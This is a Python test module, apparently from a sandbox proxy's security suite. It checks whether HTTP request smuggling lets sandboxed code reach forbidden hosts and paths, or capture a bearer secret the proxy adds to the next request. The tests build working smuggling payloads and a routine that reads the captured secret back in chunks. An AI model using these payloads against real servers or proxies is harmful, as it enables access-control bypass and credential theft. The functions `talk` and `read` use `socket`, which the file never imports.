"""Bodies that a server leaves unread, and takes for the next request of its connection: for a host
that nobody judged, at a path that no rule has, or one that has the head of the guest's next request
as its body, secret and all. The server is an honest one of Python's standard library. The control:
the policy `open`, a rule that names neither method nor path, a secret that no broker keeps, or a
build without those checks."""
import os

from frame import Outcome, row
from places import Sandbox
from world import NOTES_HOST

N = "network"
ENDS, NONE_READ = "a body ends its connection", "bodies where servers read none"
KNOWN = ("HTTP smuggling",)
PADDING = "p" * 40
RULE = {"name": "notes", "secret": "notes", "way": "headers", "hosts": [NOTES_HOST]}


def talk(host, tls, said):
    """What each is answered, one after the other over one connection; as far as it goes."""
    import ssl

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    bare = socket.create_connection((host, 443 if tls else 80), timeout=10)
    told = []
    with context.wrap_socket(bare, server_hostname=host) if tls else bare as stream:
        try:
            for text in said:
                stream.sendall(text.encode())
                got = b""
                while b"\r\n\r\n" not in got or len(got.partition(b"\r\n\r\n")[2]) < int(
                    got.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
                ):
                    part = stream.recv(65536)
                    if not part:
                        return told
                    got += part
                told.append(got.decode("latin-1"))
        except OSError:
            pass
        return told


def read(host, tls, path, size):
    """A note, six bytes at a time, so that nobody knows a secret in it."""
    import ssl

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    note = ""
    for at in range(0, size, 6):
        bare = socket.create_connection((host, 443 if tls else 80), timeout=10)
        with context.wrap_socket(bare, server_hostname=host) if tls else bare as stream:
            stream.sendall(
                f"GET {path}?{at}-{at + 6} HTTP/1.1\r\n"
                f"Host: {host}\r\n"
                "Connection: close\r\n"
                "\r\n".encode()
            )
            got = b""
            while part := stream.recv(65536):
                got += part
            note += got.partition(b"\r\n\r\n")[2].decode("latin-1")
    return note


def asks(method, path, body="", more="", host=NOTES_HOST):
    return (
        f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}"
        + (f"Content-Length: {len(body)}\r\n" if body else "")
        + f"\r\n{body}"
    )


def reached(host, mark, told):
    text = str(told.get("refused") or [one.split("\r\n")[0] for one in told.get("done") or ()])
    return Outcome(host.comes(lambda: host.world.notes.reached(mark)), text)


def judged(method):
    @row(
        f"body-of-{method.lower()}",
        f"over plain HTTP name another host in the body of a {method}, which the server does not "
        "read",
        N,
        ENDS,
        by="A1",
        known=KNOWN,
        holes=(ENDS,),
    )
    def run(host, lifted):
        mark = "mark-" + os.urandom(8).hex()
        said = [asks(method, "/x", asks("GET", f"/{mark}", host="forbidden.example"))]
        told = host.box("open" if lifted else "main").run(
            talk, {"host": NOTES_HOST, "tls": False, "said": said}
        )
        assert told.get("done"), told  # it was let through: else nothing was tried
        return reached(host, mark, told)


for one in ("DELETE", "OPTIONS", "POST"):
    judged(one)


def with_secret(host, *rules):
    """A sandbox that these rules are for."""
    if not hasattr(host, "notes_secret"):
        host.notes_secret = "sk-" + os.urandom(12).hex()
        done = host.daemon.cli(
            "secret", "set", "notes", "--host", NOTES_HOST, stdin=host.notes_secret.encode()
        )
        assert done.code == 0, done
    return Sandbox(host, f"notes-{os.urandom(4).hex()}", policy=NOTES_HOST, proxy=list(rules))


def fenced(name, method, rule, holes, wall):
    @row(
        f"fence-body-of-{name}",
        f"ask for what no rule lets through in the body of a {method}, which the server does not "
        "read",
        N,
        wall,
        by="A1",
        known=("secrets at the proxy", *KNOWN),
        proof="succeeds where the rule names neither",
        holes=holes,
    )
    def run(host, lifted):
        mark = "mark-" + os.urandom(8).hex()
        box = with_secret(host, RULE if lifted else {**RULE, **rule})
        inner = asks("DELETE", f"/admin/{mark}")
        try:
            got = box.run(
                talk,
                {
                    "host": NOTES_HOST,
                    "tls": True,
                    "said": [inner if lifted else asks(method, "/v1/x", inner)],
                },
            )
            assert got.get(
                "done"
            ), got  # it was answered, or told that the answer broke: else nothing was tried
            return reached(host, mark, got)
        finally:
            host.daemon.cli("rm", box.name)


fenced("get", "GET", {"methods": ["GET"], "paths": ["/v1/**"]}, (ENDS, NONE_READ), NONE_READ)
fenced("post", "POST", {"methods": ["POST"], "paths": ["/v1/**"]}, (ENDS,), ENDS)


def captured(name, first, holes, wall):
    """`first(body)`: what is answered without its body being read."""

    @row(
        f"capture-by-{name}",
        "have the head of the next request, with its secret, kept as a note: by a "
        f"{name.replace('-', ' ')}",
        N,
        wall,
        by="A1",
        known=("secrets at the proxy", *KNOWN),
        proof="succeeds with a secret that no broker keeps",
        holes=holes,
    )
    def run(host, lifted):
        box, path = with_secret(host, RULE), f"/notes/{os.urandom(8).hex()}"
        secret = host.notes_secret if not lifted else "sk-" + os.urandom(12).hex()
        # As the broker writes it.
        head = asks(
            "GET",
            "/x",
            more=f"X-P: {PADDING}\r\n"
            + f"Accept-Encoding: identity\r\nAuthorization: Bearer {secret}\r\n",
        )
        inner = f"POST {path} HTTP/1.1\r\nHost: {NOTES_HOST}\r\nContent-Length: {len(head)}\r\n\r\n"
        then = head if lifted else asks("GET", "/x", more=f"X-P: {PADDING}\r\n")
        where = {"host": NOTES_HOST, "tls": not lifted}
        try:
            place = host.box("open") if lifted else box
            told = place.run(talk, {**where, "said": [first(inner), then]})
            note = place.run(read, {**where, "path": path, "size": len(head)}).get("done") or ""
            return Outcome(
                secret in note, str([one.split("\r\n")[0] for one in told.get("done") or ()])
            )
        finally:
            host.daemon.cli("rm", box.name)


captured("body-of-a-get", lambda body: asks("GET", "/x", body), (ENDS, NONE_READ), NONE_READ)
captured("post-answered-early", lambda body: asks("POST", "/unknown", body), (ENDS,), ENDS)
